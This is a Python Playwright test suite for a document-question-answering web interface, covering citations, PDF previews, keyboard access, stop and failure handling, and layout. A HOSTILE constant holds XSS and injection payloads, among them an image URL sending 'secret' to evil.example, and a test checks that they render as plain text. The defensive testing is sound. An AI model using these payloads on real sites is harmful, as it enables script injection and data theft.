"""The page in a real browser; every test also demands no console error, no dialog and no request elsewhere."""

from __future__ import annotations

import io
import re
import time
from collections.abc import Iterable, Iterator
from pathlib import Path

import pytest
from PIL import Image
from playwright.sync_api import Browser, Locator, Page, expect

from agents.events import Event, Failed, RunStarted
from configs.errors import AppError
from tests.retrieval.evidence.pixels import yellow
from tests.ui.web.browsing import ask, ended, log, opened
from tests.ui.web.conftest import served
from tests.ui.web.exhibited import BASELINE, CHINESE, CODE, MARKDOWN, PDF, furnish, word_left
from tests.ui.web.scripted import ANSWER, ScriptedBackend, answering, discussion
from tests.ui.web.waiting import until

HOSTILE = """
<script>alert(1)</script> <img src="http://evil.example/a.png" onerror="alert(2)">
![pixel](http://evil.example/b.png?q=secret) [link](javascript:alert(3)) [out](http://evil.example/c)
<form action="http://evil.example/d"><button>go</button></form> <style>@import url(http://evil.example/e.css);</style>
<iframe src="http://evil.example/f"></iframe> <svg onload="alert(4)"></svg>
{{constructor.constructor('alert(5)')()}} ${alert(6)} <details open ontoggle="alert(7)"></details>

```html
</code></pre><img src="http://evil.example/h.png" onerror="alert(8)">
```
END
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[ScriptedBackend, str]]:
    backend = ScriptedBackend(discussion)
    with served(backend, tmp_path_factory.mktemp("home")) as url:
        yield backend, url


@pytest.fixture
def backend(server: tuple[ScriptedBackend, str]) -> ScriptedBackend:
    server[0].reset(discussion)
    return server[0]


@pytest.fixture
def page(browser: Browser, backend: ScriptedBackend, server: tuple[ScriptedBackend, str]) -> Iterator[Page]:
    """An opened page; afterwards nothing may have gone wrong in the browser."""
    with opened(browser, server[1]) as page:
        yield page


def test_the_page_is_ready_to_use(page: Page) -> None:
    expect(page.get_by_role("heading", name="Roundtable", level=1)).to_be_visible()
    expect(page.get_by_label("Knowledge base")).to_have_value("handbook")
    expect(page.get_by_label("Team")).to_have_value("qa")


def test_agents_speak_in_order_and_the_text_grows(page: Page, backend: ScriptedBackend) -> None:
    backend.pause_s = 0.03
    ask(page)
    expect(page.locator(".message .prose").first).to_be_visible()
    lengths = []
    while page.get_by_role("button", name="Stop").is_visible():
        lengths.append(len(log(page).inner_text()))
        time.sleep(0.05)
    assert len(set(lengths)) >= 5
    assert lengths == sorted(lengths)
    assert log(page).locator(".agent").all_inner_texts() == [
        "retriever",
        "assistant",
        "code_executor",
        "assistant",
        "critic",
    ]
    expect(log(page).locator(".answer")).to_contain_text("For three nights: 360 euros.")


def test_a_citation_opens_its_passage_and_gives_the_focus_back(page: Page) -> None:
    ask(page)
    ended(page)
    citation = page.locator(".answer .prose .cite").first
    citation.focus()
    page.keyboard.press("Enter")
    passage = page.get_by_role("region", name=re.compile("handbook.pdf"))
    expect(passage.locator("mark")).to_have_text("paid up to 120 euros a night")
    expect(passage).to_contain_text("page 3")
    expect(passage).to_contain_text("Handbook › Travel")
    expect(passage.get_by_role("heading")).to_be_focused()
    page.keyboard.press("Escape")
    expect(passage).to_be_hidden()
    expect(citation).to_be_focused()


def test_a_listed_source_opens_too_and_can_be_closed(page: Page) -> None:
    ask(page)
    ended(page)
    page.locator(".sources").get_by_role("button", name=re.compile("差旅费.xlsx")).click()
    passage = page.get_by_role("region", name=re.compile("差旅费.xlsx"))
    expect(passage.locator("table mark")).to_have_text(["上海 ", " 140"])
    passage.get_by_role("button", name="Close the passage").click()
    expect(passage).to_be_hidden()


def seen(image: Locator) -> Image.Image:
    """What stands on the screen where the page's image is, once it is there."""
    expect(image).to_be_visible()
    until(lambda: bool(image.evaluate("image => image.complete && image.naturalWidth > 0")))
    return Image.open(io.BytesIO(image.screenshot()))


def open_source(page: Page, marker: int) -> Locator:
    ask(page)
    ended(page)
    page.locator(f".answer .prose .cite[data-marker='{marker}']").click()
    passage = page.locator(f".passage[data-marker='{marker}']")
    expect(passage).to_be_visible()
    return passage


def test_a_cited_pdf_shows_its_page_with_the_quoted_words_in_yellow(
    page: Page, backend: ScriptedBackend, tmp_path: Path
) -> None:
    furnish(backend, tmp_path)
    passage = open_source(page, PDF)
    image = passage.get_by_role("img", name="Page 2 of handbook.pdf with the cited words marked")
    shown = seen(image)
    mark = yellow(shown)
    assert mark
    scale = shown.width / 595
    assert mark[0] / scale == pytest.approx(word_left("up"), abs=3)
    assert word_left("euros") + 20 < mark[2] / scale < word_left("a") + 2
    assert BASELINE + 28 < mark[1] / scale < mark[3] / scale < BASELINE + 46
    expect(passage).to_contain_text("Same as old/handbook.pdf")


def test_pages_are_turned_and_enlarged_by_keyboard(page: Page, backend: ScriptedBackend, tmp_path: Path) -> None:
    furnish(backend, tmp_path)
    passage = open_source(page, PDF)
    small = seen(passage.get_by_role("img")).width
    passage.get_by_role("button", name="Next page").focus()
    page.keyboard.press("Enter")
    assert yellow(seen(passage.get_by_role("img", name="Page 3 of handbook.pdf"))) is None
    page.keyboard.press("Enter")
    expect(passage.locator(".count")).to_have_text("Page 3 of 3")
    expect(passage.get_by_role("button", name="Next page")).to_be_disabled()
    passage.get_by_role("button", name="Previous page").focus()
    page.keyboard.press("Enter")
    assert yellow(seen(passage.get_by_role("img", name="Page 2 of handbook.pdf")))
    passage.get_by_role("button", name="Enlarge the page").focus()
    page.keyboard.press("Enter")
    assert seen(passage.get_by_role("img")).width > 1.5 * small
    page.keyboard.press("Escape")
    expect(passage).to_be_visible()
    assert seen(passage.get_by_role("img")).width == small
    page.keyboard.press("Escape")
    expect(passage).to_be_hidden()


@pytest.mark.parametrize(
    ("marker", "marked", "near"),
    [
        (MARKDOWN, ["Porto ", " 95"], "Ask before you book."),
        (CHINESE, ["十二天带薪年假"], "年假须提前申请。"),
        (CODE, ["RATES[city] < 120"], "Run this:"),
    ],
)
def test_a_cited_document_without_pages_shows_its_words_among_their_neighbours(
    page: Page, backend: ScriptedBackend, tmp_path: Path, marker: int, marked: list[str], near: str
) -> None:
    furnish(backend, tmp_path)
    passage = open_source(page, marker)
    expect(passage.locator("mark")).to_have_text(marked)
    expect(passage.locator("mark").first).to_be_in_viewport()
    expect(passage.locator(".near").filter(has_text=near)).to_be_visible()
    expect(passage.locator("img")).to_have_count(0)


def test_the_original_can_be_downloaded(page: Page, backend: ScriptedBackend, tmp_path: Path) -> None:
    furnish(backend, tmp_path)
    passage = open_source(page, CHINESE)
    with page.expect_download() as download:
        passage.get_by_role("link", name="Download the original").click()
    assert download.value.suggested_filename == "手册.md"
    assert Path(download.value.path()).read_bytes() == (tmp_path / "手册.md").read_bytes()


def test_an_image_copied_into_another_browser_is_not_shown(
    page: Page, browser: Browser, backend: ScriptedBackend, server: tuple[ScriptedBackend, str], tmp_path: Path
) -> None:
    furnish(backend, tmp_path)
    address = open_source(page, PDF).get_by_role("img").get_attribute("src")
    mine, stranger = page.context.new_page(), browser.new_page()
    for visitor, status in ((mine, 200), (stranger, 404)):
        answer = visitor.goto(f"{server[1]}/{address}")
        assert answer
        assert answer.status == status
    stranger.close()


def test_why_there_is_no_page_to_see_is_told(page: Page, backend: ScriptedBackend, tmp_path: Path) -> None:
    furnish(backend, tmp_path)
    (tmp_path / "handbook.pdf").unlink()
    passage = open_source(page, PDF)
    expect(passage).to_contain_text("The original is no longer there.")
    expect(passage.locator("mark")).to_have_text("up to 120 euros")
    expect(passage.get_by_role("img")).to_have_count(0)


def test_stop_ends_the_run_and_keeps_what_was_said(page: Page, backend: ScriptedBackend) -> None:
    backend.script, backend.pause_s = answering(ANSWER * 40), 0.02
    ask(page)
    expect(log(page).locator(".message")).to_contain_text("Hotels are paid")
    started = time.monotonic()
    page.get_by_role("button", name="Stop").click()
    ended(page, "Stopped.")
    assert time.monotonic() - started < 2
    expect(log(page)).to_contain_text("You stopped the run.")
    expect(log(page).locator(".message")).to_contain_text("Hotels are paid")
    expect(page.get_by_role("button", name="Ask", exact=True)).to_be_visible()


def test_hostile_text_is_only_text(page: Page, backend: ScriptedBackend) -> None:
    backend.script = answering(HOSTILE)
    ask(page, HOSTILE)
    ended(page)
    expect(log(page).locator(".answer")).to_contain_text("END")
    assert log(page).locator("img, script, style, form, iframe, svg, a, [onerror], [src], [href]").count() == 0
    page.wait_for_timeout(200)


def test_a_question_asked_too_early_waits(page: Page, backend: ScriptedBackend) -> None:
    backend.ready.clear()
    page.reload()
    expect(page.locator("#ready")).to_contain_text("Getting ready…")
    ask(page)
    expect(log(page)).to_contain_text("How much is a hotel?")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    backend.ready.set()
    ended(page)
    expect(page.locator("#ready")).to_be_hidden()


def test_an_application_that_cannot_start_says_why(page: Page, backend: ScriptedBackend) -> None:
    backend.ready.clear()
    backend.broken = AppError("Another process uses the data directory.", hint="Close it first.")
    page.reload()
    expect(page.locator("#ready").get_by_role("alert")).to_contain_text("Close it first.")


def failing(question: str) -> Iterable[Event]:
    yield RunStarted(question=question, team="qa", kb="handbook", strategy="hybrid")
    yield Failed(error_type="ModelUnreachable", message="The model does not answer.", hint="Start its server.")


def test_a_failure_is_a_notice_and_not_an_answer(page: Page, backend: ScriptedBackend) -> None:
    backend.script = failing
    ask(page)
    ended(page, "Ended without an answer.")
    notice = log(page).get_by_role("alert")
    expect(notice).to_contain_text("The model does not answer.")
    expect(notice).to_contain_text("Start its server.")
    expect(log(page).locator(".message")).to_have_count(0)


def test_another_knowledge_base_begins_a_new_conversation(page: Page, backend: ScriptedBackend) -> None:
    backend.script, backend.pause_s = answering(ANSWER * 40), 0.02
    ask(page)
    expect(log(page).locator(".message")).to_contain_text("Hotels are paid")
    page.get_by_label("Knowledge base").click()
    page.get_by_role("option", name="员工手册").click()
    expect(log(page)).to_contain_text("Ask your documents")
    page.wait_for_timeout(400)
    expect(log(page).locator(".message")).to_have_count(0)
    backend.script, backend.pause_s = discussion, 0.0
    ask(page, "住宿标准是多少？")
    ended(page)
    expect(log(page).locator(".question")).to_have_text("住宿标准是多少？")


def test_the_next_question_can_be_typed_while_the_last_is_answered(page: Page, backend: ScriptedBackend) -> None:
    backend.pause_s = 0.02
    ask(page)
    expect(log(page).locator(".message").first).to_be_visible()
    box = page.get_by_role("textbox", name="Your question")
    box.fill("And taxis?")
    ended(page)
    expect(box).to_have_value("And taxis?")
    box.press("Enter")
    expect(log(page).locator(".question")).to_have_text(["How much is a hotel?", "And taxis?"])


def test_the_newest_words_stay_in_sight_unless_the_reader_has_scrolled_up(page: Page, backend: ScriptedBackend) -> None:
    backend.script = answering(ANSWER * 40)
    talk, left_below = page.locator(".talk"), "talk => talk.scrollHeight - talk.scrollTop - talk.clientHeight"
    ask(page)
    ended(page)
    assert talk.evaluate("talk => talk.scrollHeight > 2 * talk.clientHeight")
    assert talk.evaluate(left_below) < 2
    talk.evaluate("talk => talk.scrollTop = 0")
    ask(page, "And once more?")
    ended(page)
    expect(log(page).locator(".question")).to_have_count(2)
    assert talk.evaluate("talk => talk.scrollTop") == 0


def test_a_closed_tab_does_not_end_the_run(page: Page, backend: ScriptedBackend) -> None:
    reached: list[str] = []

    def script(question: str) -> Iterable[Event]:
        yield from discussion(question)[:-1]
        reached.append(question)
        yield discussion(question)[-1]

    backend.script, backend.pause_s = script, 0.02
    ask(page)
    expect(log(page).locator(".message").first).to_be_visible()
    page.close()
    until(lambda: reached == ["How much is a hotel?"])


def test_the_browser_keeps_nothing_of_the_conversation(page: Page) -> None:
    ask(page, "a-very-private-question")
    ended(page)
    stored = page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie])")
    assert "private" not in stored
    assert "Hotels" not in stored


@pytest.mark.parametrize("width", [390, 900, 1280])
def test_nothing_is_wider_than_the_screen(page: Page, backend: ScriptedBackend, width: int) -> None:
    wide = f"| {' | '.join(['a wide column'] * 12)} |\n|{'---|' * 12}\n\n```\n{'x' * 300}\n```\n{'w' * 300}"
    backend.script = lambda question: [*discussion(question), *answering(wide)(question)]
    page.set_viewport_size({"width": width, "height": 844})
    ask(page, "长" * 300)
    ended(page)
    page.locator(".answer .cite").first.click()
    expect(page.locator(".passage")).to_be_in_viewport()
    assert page.evaluate("document.documentElement.scrollWidth") <= width
